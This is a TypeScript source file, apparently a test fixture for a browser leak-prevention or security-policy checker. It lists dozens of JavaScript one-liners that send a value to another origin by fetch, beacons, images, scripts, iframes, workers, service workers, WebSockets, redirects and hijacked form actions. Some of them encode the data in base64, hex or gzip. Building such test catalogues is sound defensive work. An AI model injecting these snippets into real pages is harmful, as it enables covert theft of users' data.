/** Scripts that send `value` to `other`, an origin of someone else. `name` is the last part of the path that they request. */
export const leakingWays: Readonly<Record<string, string>> = {
  fetch: `fetch(other + '/fetch', { method: 'POST', mode: 'no-cors', body: value })`,
  'fetch-query': `fetch(other + '/fetch-query?v=' + encodeURIComponent(value), { mode: 'no-cors' })`,
  'fetch-json': `fetch(other + '/fetch-json', { method: 'POST', body: JSON.stringify({ json: JSON.stringify({ value }) }) })`,
  'fetch-base64': `fetch(other + '/fetch-base64?v=' + btoa('user:' + value))`,
  'fetch-hex': `fetch(other + '/fetch-hex?v=' + [...value].map((one) => one.charCodeAt(0).toString(16)).join(''))`,
  'fetch-kept': `fetch(other + '/fetch-kept', { method: 'POST', keepalive: true, body: new URLSearchParams({ value }) })`,
  'fetch-header': `fetch(other + '/fetch-header', { headers: { 'x-value': value } })`,
  'fetch-header-name': `fetch(other + '/fetch-header-name', { headers: { [value]: '1' } })`,
  multipart: `const data = new FormData(); data.append('f', new File([value], 'a.txt')); fetch(other + '/multipart', { method: 'POST', body: data })`,
  compressed: `new Response(new Blob(['{"v":"' + value + '"}']).stream().pipeThrough(new CompressionStream('gzip'))).blob()
    .then((body) => fetch(other + '/compressed', { method: 'POST', body }))`,
  redirected: `fetch('/redirect?to=' + encodeURIComponent(other + '/redirected'), { method: 'POST', mode: 'no-cors', body: value })`,
  'redirected-query': `fetch('/redirect?to=' + encodeURIComponent(other + '/redirected-query?v=' + value), { mode: 'no-cors' })`,
  beacon: `navigator.sendBeacon(other + '/beacon', new Blob([value]))`,
  ping: `const link = Object.assign(document.createElement('a'), { href: '#', ping: other + '/ping?v=' + value }); document.body.append(link); link.click()`,
  cookie: `document.cookie = 'v=' + value; new Image().src = other.replace('localhost', '127.0.0.1') + '/cookie'`,
  xhr: `const request = new XMLHttpRequest(); request.open('POST', other + '/xhr'); request.send(value)`,
  image: `new Image().src = other + '/image?v=' + value`,
  referrer: `history.replaceState(null, '', '?v=' + value); const image = new Image(); image.referrerPolicy = 'unsafe-url'; image.src = other + '/referrer'`,
  script: `document.head.append(Object.assign(document.createElement('script'), { src: other + '/script?v=' + value }))`,
  module: `import(other + '/module?v=' + value).catch(() => 0)`,
  style: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: other + '/style?v=' + value }))`,
  prefetch: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: other + '/prefetch?v=' + value }))`,
  'event-source': `new EventSource(other + '/event-source?v=' + value)`,
  video: `document.body.append(Object.assign(document.createElement('video'), { src: other + '/video?v=' + value }))`,
  object: `document.body.append(Object.assign(document.createElement('object'), { data: other + '/object?v=' + value }))`,
  frame: `document.body.append(Object.assign(document.createElement('iframe'), { src: other + '/frame?v=' + value }))`,
  'blank-frame': `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.fetch(other + '/blank-frame', { method: 'POST', mode: 'no-cors', body: value })`,
  'framed-form': `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc:
    '<form method=post action="' + other + '/framed-form"><input name=v value="' + value + '"></form><script>document.forms[0].submit()</' + 'script>' }))`,
  'targeted-form': `const sent = document.createElement('form'); Object.assign(sent, { method: 'post', action: other + '/targeted-form', target: 'target', enctype: 'text/plain' });
    sent.append(Object.assign(document.createElement('textarea'), { name: 'v', value }));
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'target' }), sent); sent.submit()`,
  message: `document.querySelector('#listener').contentWindow.postMessage(value, '*')`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + other + '/worker", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(value) + ' })'])))`,
  'shared-worker': `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + other + '/shared-worker", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(value) + ' })'])))`,
  'service-worker': `navigator.serviceWorker.register('/service-worker.js?way=service-worker&other=' + other + '&v=' + value).catch(() => 0)`,
  'own-service-worker': `ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service-worker.js?way=own-service-worker&other=' + other + '&v=' + value, { scope: '/own/' }).catch(() => 0)`,
  'service-worker-import': `ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service-worker.js?way=service-worker-import&import=1&other=' + other + '&v=' + value, { scope: '/import/' }).catch(() => 0)`,
  socket: `const socket = new WebSocket(other.replace('http', 'ws') + '/socket'); socket.onopen = () => socket.send(value)`,
  'worker-socket': `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + other.replace('http', 'ws') + '/worker-socket?v=' + value + '")'])))`,
  'shared-worker-socket': `new SharedWorker(URL.createObjectURL(new Blob(['new WebSocket("' + other.replace('http', 'ws') + '/shared-worker-socket?v=' + value + '")'])))`,
};

/** Scripts after which the page itself is on its way to `other`, with `value`. `form` is the form that the steps send. */
export const leavingWays: Readonly<Record<string, string>> = {
  location: `location = other + '/location?v=' + value`,
  fragment: `location = other + '/fragment#' + value`,
  'window-name': `name = value; location = '/redirect?to=' + encodeURIComponent(other + '/window-name?v=' + value)`,
  action: `form.action = other + '/action'`,
  'text-action': `form.action = other + '/text-action'; form.enctype = 'text/plain'`,
  'get-action': `form.action = other + '/get-action'; form.method = 'get'`,
  'multipart-action': `form.action = other + '/multipart-action'; form.enctype = 'multipart/form-data'`,
  'redirected-action': `form.action = '/redirect?to=' + encodeURIComponent(other + '/redirected-action')`,
  'own-submit': `form.action = other + '/own-submit'; form.submit()`,
  'button-action': `document.querySelector('#go').formAction = other + '/button-action'`,
  base: `form.setAttribute('action', 'base'); document.head.append(Object.assign(document.createElement('base'), { href: other + '/' }))`,
  refresh: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + other + '/refresh?v=' + value }))`,
  'swapped-on-submit': `form.addEventListener('submit', () => { form.action = other + '/swapped-on-submit' })`,
  credentials: `location = other.replace('//', '//x:' + value + '@') + '/credentials'`,
};

/** Scripts that send `value` to `other` later, by the browser itself, or by a socket whose request is long. */
export const askingWays: Readonly<Record<string, string>> = {
  later: `fetchLater(other + '/later', { method: 'POST', body: value, activateAfter: 0 })`,
  'long-socket': `new WebSocket(other.replace('http', 'ws') + '/long-socket?' + 'x'.repeat(200_000)).onopen = () => 0`,
  federated: `navigator.credentials.get({ identity: { providers: [{ configURL: other + '/federated?v=' + value, clientId: value, nonce: value }] } }).catch(() => 0)`,
};
